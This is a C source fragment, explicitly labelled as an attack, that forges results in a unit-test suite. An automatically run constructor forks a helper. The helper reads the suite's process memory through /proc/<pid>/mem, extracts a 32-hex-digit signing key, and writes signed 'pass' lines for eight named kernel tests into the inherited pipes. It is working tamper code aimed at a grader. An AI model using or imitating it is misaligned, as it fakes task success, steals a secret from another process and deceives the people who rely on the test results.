
/* ---- the attack: a helper reads the key from the suite's memory and signs passes with it ---- */
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char *const attack_names[] = {
	"kobject_get_takes_a_reference", "kobject_put_releases_on_the_last_reference_only",
	"naive_driver_read_after_unplug_is_a_use_after_free",
	"pinned_kobject_survives_unplug_and_is_released_after_close",
	"release_in_an_unloaded_module_oopses_at_last_close", "seed_example1_callback_runs_in_unloaded_scsi_mod",
	"seed_example2_last_close_reaches_unloaded_libata", "same_scenario_twice_gives_the_same_trace",
};

/* A 32-hex-digit string in one of pid's writable mappings, into key; 0 if none (or no access). */
static int attack_find_key(pid_t pid, char *key)
{
	static char buf[1 << 20];
	char path[64], line[512];
	unsigned long lo, hi;
	FILE *maps;
	int mem, found = 0;
	size_t i, run;

	snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
	if (!(maps = fopen(path, "r")))
		return 0;
	snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
	mem = open(path, O_RDONLY);
	while (mem >= 0 && !found && fgets(line, sizeof(line), maps)) {
		char perms[8];

		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[1] != 'w' || hi - lo > sizeof(buf))
			continue;
		if (pread(mem, buf, hi - lo, lo) != (ssize_t)(hi - lo))
			continue;
		for (i = 0, run = 0; i < hi - lo && !found; i++) {
			if (isxdigit((unsigned char)buf[i]) && !isupper((unsigned char)buf[i])) {
				run++;
			} else {
				if (run == 32 && buf[i] == '\0' && (i == 32 || buf[i - 33] == '\0')) {
					memcpy(key, buf + i - 32, 32);
					key[32] = '\0';
					found = 1;
				}
				run = 0;
			}
		}
	}
	if (mem >= 0)
		close(mem);
	fclose(maps);
	return found;
}

__attribute__((constructor)) static void attack_memory_key(void)
{
	pid_t suite = getpid();
	char key[33];
	struct stat st;
	unsigned i, fd;

	if (!getenv("CK_XML_LOG_FILE_NAME") || strstr(program_invocation_short_name, "test_stage1") == NULL)
		return;
	if (fork() != 0)
		return;
	/* Until the suite has read its key (or ends): every 10 ms, look for it. */
	while (kill(suite, 0) == 0 && getppid() == suite && !attack_find_key(suite, key)) {
		struct timespec ts = { 0, 10 * 1000 * 1000 };

		nanosleep(&ts, NULL);
	}
	if (getppid() != suite)
		_exit(0);
	/* Signed passes, into every pipe this helper inherited. */
	for (fd = 3; fd < 256; fd++)
		if (fstat(fd, &st) == 0 && S_ISFIFO(st.st_mode))
			for (i = 0; i < sizeof(attack_names) / sizeof(attack_names[0]); i++)
				dprintf(fd, "%s\tpass\ttest_stage1\t%s\n", key, attack_names[i]);
	_exit(0);
}
